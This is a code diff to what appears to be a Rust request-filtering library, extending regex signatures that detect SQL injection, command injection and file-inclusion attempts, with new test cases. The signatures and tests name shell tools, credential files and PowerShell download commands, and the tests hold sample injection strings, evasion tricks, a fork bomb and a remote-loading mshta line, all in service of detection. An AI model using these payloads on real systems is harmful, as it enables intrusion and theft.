@@ -35,6 +35,12 @@ const SQLI: &[&str] = &[
     r"\binto\s+(?:out|dump)file\b",
     r";\s*(?:drop|truncate|alter)\s+(?:table|database|user)\b",
     r"['`]\s*(?:or|and|\|\||&&)\s+[\w'`]+\s*(?:=|<|>|like\b|is\b|in\b)",
+    // SQL's own functions called (names that prose and other languages do not call), numeric
+    // tautologies and contradictions, statements stacked after `;`, a column alias before FROM.
+    r"\b(?:coalesce|concat|substring|substr|sysdate|nullif|ifnull|isnull|unhex|char|chr|ascii|cast|instr|lpad|rpad|md5|sha1|crc32)\\?\(",
+    r"\b(?:and|or|xor|div)\s+\(?\s*\d+\s*(?:={1,3}|!=|<=>)\s*\(?",
+    r";\s*(?:update\s+\S+\s+set|insert\s+into|delete\s+from|set\s+@@?\w|create\s+(?:table|database|user|function|procedure)|drop\s+(?:table|database|user))\b",
+    r"\)\s*as\s+[\w`\x22]+\s+from\b|\bselect\s*\(\s*case\b",
 ];
 
 const XSS: &[&str] = &[
@@ -50,31 +56,60 @@ const XSS: &[&str] = &[
     r"\[\]\[\(!\[\]|\(!\[\]\+\[\]\)",
 ];
 
-/// Unix commands an injection runs (`{commands}` in [`CMDI`]).
-const UNIX_COMMANDS: &str = "cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|lua|node|ping|nslookup|dig|host|rm|chmod|chown|echo|printf|ps|kill|pkill|sleep|telnet|ssh|scp|ftp|tftp|busybox|awk|gawk|sed|find|xargs|head|tail|more|less|env|printenv|ifconfig|ip|netstat|ss|base64|xxd|od|tar|gzip|mkfifo|touch|cp|mv|crontab|sudo|su|passwd|useradd|nohup|exec|eval|socat|systemctl|service|mount|dd|uptime|hostname|w|who|last|history|ansible|docker|kubectl|nmap|tee|tac|nl|sort|uniq|grep|egrep|zcat|bzcat|strings|rev|cut|getent|lsof|which|whereis|locate|alias|source|set|export|unset|time|timeout|nice|awk";
+/// Unix commands whose names are also words of prose or of forms ("cat", "time", "more",
+/// "python"): one counts only with what a command line puts after it (`{plain}` in [`CMDI`]).
+const PLAIN_COMMANDS: &str = "cat|ls|ll|id|nc|bash|sh|dash|ping|dig|host|rm|ps|kill|sleep|find|head|tail|more|less|env|ip|ss|od|tar|touch|cp|mv|su|passwd|exec|eval|service|mount|dd|w|who|last|history|tee|tac|nl|sort|uniq|rev|cut|which|locate|alias|source|set|export|unset|time|timeout|nice|curl|python|perl|ruby|php|lua|node|docker|strings|date|top|column|fold|comm|flock|vi|vim|ex|trap|perf|echo|uptime|hostname|sed|ssh|ftp|telnet|pwd|sudo|awk|chef|ansible|git|make|wget|base64|base32|uname|lastlog|lastlogin|gzip";
+
+/// Commands no prose uses (`{distinct}`): one counts after a separator, or alone at the start of
+/// a value.
+const DISTINCT_COMMANDS: &str = "whoami|ncat|netcat|zsh|ksh|csh|tcsh|python\\d[\\d.]*|nslookup|chmod|chown|chgrp|printf|pkill|scp|tftp|busybox|gawk|xargs|printenv|ifconfig|ipconfig|netstat|xxd|gunzip|mkfifo|crontab|useradd|usermod|adduser|nohup|socat|systemctl|journalctl|ansible-[a-z]+|kubectl|nmap|grep|egrep|zcat|bzcat|xzcat|zstdcat|getent|lsof|whereis|strace|ltrace|visudo|cscli|chef-[a-z]+|bsdtar|pip\\d|pipx|ssh-copy-id|ssh-keygen|cpulimit|aptitude|apt-get|htop|gcc[\\d.]*|c89|c99|irb|gdb|rmt(?:-[a-z]+)?|aa-[a-z]+|uconv|iptables|tcpdump|dmesg|sysctl|lsmod|insmod|modprobe";
+
+/// Commands that run the command after them (`time sh -c id`).
+const COMMAND_WRAPPERS: &str = "time|nohup|strace|ltrace|sudo|env|nice|timeout|xargs|exec|command|builtin|cpulimit(?:\\s+-\\w\\s+\\S+)*|flock(?:\\s+-\\w)?\\s+\\S+";
 
 /// Matched on [`command_line`]'s rewriting, where the quoting and escaping tricks of shells are
-/// already undone.
+/// already undone. `{command}` is a distinct command, or a plain one followed by what a command
+/// line puts after a command (an option, a path, a variable, a number, a separator, the end).
 const CMDI: &[&str] = &[
-    // A command after a separator or in a substitution (not at the start of a value: a value
-    // starting with "sort" or "cat food" is too often just words).
-    r"(?:[;&|\n`]|\$\(|<\()\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:{commands})\b(?:\s|$|[;&|<>`)])",
-    // At the very start of a value, a command with an option or a path argument.
-    r"^\s*(?:{commands})\s+(?:-{1,2}[a-z]|/[a-z]|\.\.?/|~/)",
-    // Glob classes standing for one letter: `pa[s]swd`, `/[?]tc/`.
-    r"\w\[[\w?*]\]\w|/\[[\w?*]\]",
-    r"\$\(\s*[a-z/.]|`\s*[a-z/][^`]*`|\$\{?ifs\b|\$\{[a-z_]+(?::-|##|%%|//)",
-    r"/(?:usr/)?s?bin/[a-z]+\b",
+    // A command after a separator or in a substitution, optionally in a subshell or by its path.
+    r"(?:[;&|\n`]|\$\(|[<>]\()\s*\(?\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?{command}",
+    // At the very start of a value (a value starting with "sort" or "cat food" is too often just
+    // words): any command with an option or a path argument, a distinct one with any argument
+    // (alone it may be a value of an enumeration, `format=gzip`), maybe run by a wrapper
+    // (`time sh -c id`); the few commands that are only ever run, alone.
+    r"^\s*(?:json\.)?(?:(?:{wrappers})\s+(?:-\S+\s+)*)?(?:(?:{plain}|{distinct})\s+(?:-{1,2}[a-z]|/[a-z]|\.\.?/|~/)|(?:{distinct})(?:\s+\S|\s*[;&|<>]))|^\s*(?:whoami|ifconfig|ipconfig|visudo|printenv)\s*$",
+    // Glob classes standing for one letter: `pa[s]swd`, `/[?]tc/`, `/bi[n]/`, `/etc/[!q]asswd`.
+    r"\w\[[\w?*]\]\w|/\[[\w?*]\]|/\w*\[[!^]?[\w/?*-]+\][\w/]",
+    // Substitutions and expansions: `$(..)`, `$((..))`, `$[2+2]`, `${x#..}`, `<(..)`, `${IFS}`.
+    r"\$\(\s*[a-z/.(]|\$\{?ifs\b|\$\{!?\w*(?:[#%^,/@]|:[-=+?\d\s])[^}]*\}|\$\[\]|\$\[[^\]]*[-+*/%][^\]]*\]|(?:^|\W)[<>]\(\s*[\w/$]|\$\{?shell\}?\s+-c\b",
+    r"(?:^|/)(?:usr/)?s?bin/[a-z]+\b",
     r"/[?*][?*][?*]/[a-z?*]+",
     r"(?:>|<)\s*/dev/(?:tcp|udp)/|\bmkfifo\b|\b(?:nc|ncat|netcat)\s+(?:-[a-z]*\s+)*[\w.]+\s+\d+",
-    r"\bcmd(?:\.exe)?\s+/[ckr]\b|\bpowershell(?:\.exe)?\s+-|\b(?:invoke-expression|invoke-webrequest|downloadstring|downloadfile|start-process|new-object\s+net\.webclient|get-childitem|get-content|set-executionpolicy)\b",
-    r"(?:^|[;&|(])\s*(?:if\s+(?:not\s+)?(?:exist|defined|errorlevel|/i)\b|for\s+/[dflr]\b|for\s+(?:/[dflr]\s+(?:\S+\s+)?)?%%?\w+\s+in\s*\()",
-    r"(?:^|[;&|])\s*(?:net\s+(?:user|localgroup|view)|tasklist|systeminfo|ipconfig|certutil|bitsadmin|wmic|reg\s+(?:query|add)|type\s+[a-z]:)\b",
-    r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}",
+    // Windows: cmd, PowerShell and its aliases, FOR and IF, the commands of an intrusion.
+    r"\bcmd(?:\.exe)?\s+/[ckr]\b|\bpowershell(?:\.exe)?\s+(?:-|[a-z]:\\)|\b(?:invoke-expression|invoke-webrequest|downloadstring|downloadfile|start-process|new-object\s+net\.webclient|get-childitem|get-content|set-executionpolicy)\b",
+    r"(?:^|[;&|(])\s*(?:if\s+(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion|/i)\b|for\s+/[dflr]\b|for\s+(?:/[dflr]\s+(?:\S+\s+)?)?%%?\S+\s+in\s*\()",
+    r"(?:^|[;&|(])\s*if\s+(?:/i\s+)?(?:not\s+)?(?:.*?(?:\b(?:equ|neq|lss|leq|gtr|geq)\b|==).*?\b(?:echo|goto|exit|call|set|del|start|cmd|copy|move|type|do)\b|\S*%\S*\s*==)",
+    r"(?:^|[;&|])\s*(?:net\s+(?:user|localgroup|view)|tasklist|systeminfo|ipconfig|certutil|bitsadmin|wmic|reg\s+(?:query|add)|type\s+[a-z]:)\b|[;&|]\s*(?:regedit|mshta|bcdboot|bcdedit|rundll32|regsvr32|cscript|wscript|schtasks|vssadmin|wevtutil|taskkill|netsh|iwr|iex|iwmi|icm)\b",
+    // Fork bombs: a function whose body pipes or backgrounds a call (`f(){ f|f& };f`).
+    r"[\w.:]+\s*\(\s*\)\s*\{\s*[\w.:]+(?:\s*\(\s*\))?\s*[|&](?:[^|&]|$)",
     // Brace expansion (`{cat,/etc/passwd}`, its comma already a space).
-    r"\{\s*(?:cat|ls|id|echo|wget|curl|nc|bash|sh|uname|whoami)\s+[^}]*\}",
-    r"(?:^|[;&|\s])!(?:!|-?\d+|\$|#|\?)",
-    r"\bsystem\s+(?:nc|bash|sh|curl|wget)\b|^\s*\.(?:system|shell)\s",
+    r"\{(?:cat|ls|id|echo|wget|curl|nc|bash|sh|uname|whoami)\s+[^}]*\}",
+    // History and editor escapes (`!!`, `!-1`, vi's `:!whoami`).
+    r"(?:^|[;&|\s:])!(?:!|-?\d+|\$|#|\?|(?:{plain}|{distinct})\b)",
+    r"\bsystem\s+(?:nc|bash|sh|curl|wget)\b|^\s*\.(?:system|shell)\s|;\s*\.\s*(?:sh|shell|system|databases|tables|dump|import|read|output|once|load)\b",
+    // Aliases, variables run as commands (`;$a cat`, `$c $a$b`), `cd` chains, `~+` / `~-`.
+    r"\balias\s+(?:[+-]\w+\s+)*[^\s=]+=",
+    r"(?:[;&|\n`]|\$\()\s*\$\{?[a-z_]\w*\}?\s+[\w-]|\$\{?[a-z_]\w*\}?\$\{?[a-z_]\w*",
+    r"(?:^|[;&|])\s*cd\s+\S+\s*[;&|]|(?:^|[\s;&|])~[+-]\d*(?:$|[\s/;&|])",
+];
+
+/// Matched on the value itself, before [`command_line`] undoes what these look for: words cut by
+/// empty substitutions or special parameters (`pi``ng`, `c$@at`, `c$!at`), brace expansion with
+/// its commas (`{l,-lh}s`, `{,ifconfig}`), a command escaped from its alias (`\ls`).
+const CMDI_RAW: &[&str] = &[
+    r#"\w(?:``|\$\(\)|[<>]\(\))|\w\$[@*!?_$-]\w|\w(?:""|\$\$)\w"#,
+    r"\{[\w-]*[a-z_-][\w-]*,[\w,-]*\}|\{,[\w,-]*[a-z_][\w,-]*\}",
+    r"^\s*\\(?:{plain}|{distinct})(?:\s|$)",
 ];
 
 const CODE_INJECTION: &[&str] = &[
@@ -110,7 +145,7 @@ const LFI: &[&str] = &[
     r"/proc/(?:self|\d+|thread-self)/|/proc/(?:version|cmdline|environ|mounts|net/)",
     r"/var/(?:log|lib|mail|spool|run|www)/|/(?:root|home/\w+)/\.|/usr/local/(?:apps|etc|apache|nginx)/",
     r"\.(?:ssh/(?:id_\w+|authorized_keys|known_hosts)|bash_history|bash_profile|bashrc|zsh_history|mysql_history|psql_history|htpasswd|htaccess|git/(?:config|head)|svn/entries|aws/credentials|docker/config\.json|kube/config|netrc|pgpass)\b",
-    r"(?:^|[/\\:])(?:windows|winnt)[/\\](?:system32|system\.ini|win\.ini|repair|debug|panther)|\b(?:boot|win|system)\.ini\b|\bweb\.config\b|\bwp-config\.php\b|\bc:[/\\](?:windows|inetpub|boot|users)",
+    r"(?:^|[/\\:])(?:windows|winnt)[/\\](?:system32|system\.ini|win\.ini|repair|debug|panther)|\b(?:boot|win|system)\.ini\b|\bweb\.config\b|\bwp-config\.php\b|\bc:[/\\](?:windows|inetpub|boot)|\bc:[/\\]users[/\\][^/\\]+[/\\](?:appdata|ntuser)",
 ];
 
 /// Scanners and attack tools as they name themselves in `User-Agent` (and other headers).
@@ -138,6 +173,7 @@ struct Sets {
     sqli: RegexSet,
     xss: RegexSet,
     cmdi: RegexSet,
+    cmdi_raw: RegexSet,
     code: RegexSet,
     lfi: RegexSet,
     tools: RegexSet,
@@ -164,9 +200,10 @@ fn sets() -> &'static Sets {
         Sets {
             sqli: set(SQLI),
             xss: set(XSS),
-            cmdi: set(&CMDI
+            cmdi: set(&CMDI.iter().map(|p| command_pattern(p)).collect::<Vec<_>>()),
+            cmdi_raw: set(&CMDI_RAW
                 .iter()
-                .map(|p| p.replace("{commands}", UNIX_COMMANDS))
+                .map(|p| command_pattern(p))
                 .collect::<Vec<_>>()),
             code: with_wrappers(CODE_INJECTION),
             lfi: with_wrappers(LFI),
@@ -174,6 +211,19 @@ fn sets() -> &'static Sets {
             shellshock: set(SHELLSHOCK),
         }
     })
+}
+
+/// A command signature with its placeholders filled in: `{plain}`, `{distinct}` and `{wrappers}`
+/// are the lists above, `{command}` a command as a command line shows it.
+fn command_pattern(pattern: &str) -> String {
+    let command = format!(
+        r"(?:(?:{DISTINCT_COMMANDS})\b|(?:{PLAIN_COMMANDS})(?:\s+(?:-|/|\.{{1,2}}/|~|\$|\d)|\s*(?:$|[;&|<>`)])))"
+    );
+    pattern
+        .replace("{command}", &command)
+        .replace("{plain}", PLAIN_COMMANDS)
+        .replace("{distinct}", DISTINCT_COMMANDS)
+        .replace("{wrappers}", COMMAND_WRAPPERS)
 }
 
 /// Compiles the signatures now rather than at the first request.
@@ -189,7 +239,7 @@ pub fn matches(attack: Attack, value: &[u8]) -> bool {
             libinjectionrs::detect_sqli(value).is_injection() || sets.sqli.is_match(value)
         }
         Attack::Xss => libinjectionrs::detect_xss(value).is_injection() || sets.xss.is_match(value),
-        Attack::Cmdi => sets.cmdi.is_match(&command_line(value)),
+        Attack::Cmdi => sets.cmdi.is_match(&command_line(value)) || sets.cmdi_raw.is_match(value),
         Attack::CodeInjection => sets.code.is_match(value),
         Attack::Lfi => sets.lfi.is_match(value),
         Attack::Shellshock => sets.shellshock.is_match(value),
@@ -249,6 +299,16 @@ mod tests {
             (Sqli, "O'Brien", false),
             (Sqli, "the union voted to select a new chair", false),
             (Sqli, "Select your size or union jack print", false),
+            (Sqli, "COALESCE(", true),
+            (Sqli, "OR (7319=8742)", true),
+            (Sqli, "x;update users set admin=1", true),
+            (Sqli, ") as cc FROM", true),
+            (
+                Sqli,
+                "The cast (in order of appearance) and a char (or two)",
+                false,
+            ),
+            (Sqli, "update billing address; or 2 more", false),
             (Xss, "<script>alert(1)</script>", true),
             (Xss, "<img src=x onerror=alert(1)>", true),
             (Xss, "\" onmouseover=\"alert(1)", true),
@@ -264,6 +324,50 @@ mod tests {
             (Cmdi, ":(){ :|:& };:", true),
             (Cmdi, "Tom & Jerry; the cat sat", false),
             (Cmdi, "rock, paper, scissors", false),
+            // Distinct commands alone, wrappers, evasions, Windows, expansions.
+            (Cmdi, "ansible-config dump", true),
+            (Cmdi, "time sh -c whoami", true),
+            (Cmdi, "strace ifconfig", true),
+            (Cmdi, "x; visudo", true),
+            (Cmdi, "pi``ng 127.0.0.1", true),
+            (Cmdi, "c$!at /etc/passwd", true),
+            (Cmdi, "{l,-lh}s", true),
+            (Cmdi, "\\ls", true),
+            (Cmdi, "alias a=b", true),
+            (Cmdi, "/bi[n]/bash", true),
+            (Cmdi, "$[2+2]", true),
+            (Cmdi, ">(tee log)", true),
+            (Cmdi, "garb=adduse[r];$garb pizza", true),
+            (Cmdi, "f(){ f|f& };f", true),
+            (Cmdi, "code=;vim -c:!pwd", true),
+            (Cmdi, "1;.shell whoami", true),
+            (Cmdi, "~+", true),
+            (Cmdi, "IF %ERRORLEVEL% EQU 2 goto end", true),
+            (Cmdi, "& FOR %- IN (a,b,c) DO cmd", true),
+            (Cmdi, "; mshta http://example.com", true),
+            (Cmdi, "var=x\"|bcdboot %SYSTEMROOT%", true),
+            // Prose and code that use command words, separators and brackets.
+            (Cmdi, "hello; time he came", false),
+            (Cmdi, "a hero; more than", false),
+            (Cmdi, "Echo Dot (3rd gen)", false),
+            (Cmdi, "sudo make me a sandwich", false),
+            (Cmdi, "python for kids", false),
+            (Cmdi, "time warner", false),
+            (Cmdi, "who | what | where", false),
+            (Cmdi, "`foo`;`bar`;`def`", false),
+            (Cmdi, "red;$5 each", false),
+            (Cmdi, "page[1] and a[b/1234*c]", false),
+            (Cmdi, "\\d{1,3}", false),
+            (Cmdi, "{size, colour} both wrong", false),
+            (
+                Cmdi,
+                "for (let i = 0; i < n; i++) { total += p[i]; }",
+                false,
+            ),
+            (Cmdi, "myfunction(){ echo hello }", false),
+            (Cmdi, "your alias is not = to your name", false),
+            (Cmdi, "if x == y then z, says the manual", false),
+            (Cmdi, "CD / DVD drive", false),
             (CodeInjection, "<?php system($_GET['c']); ?>", true),
             (CodeInjection, "eval(base64_decode('aWQ='))", true),
             (CodeInjection, "${jndi:ldap://x.example/a}", true),
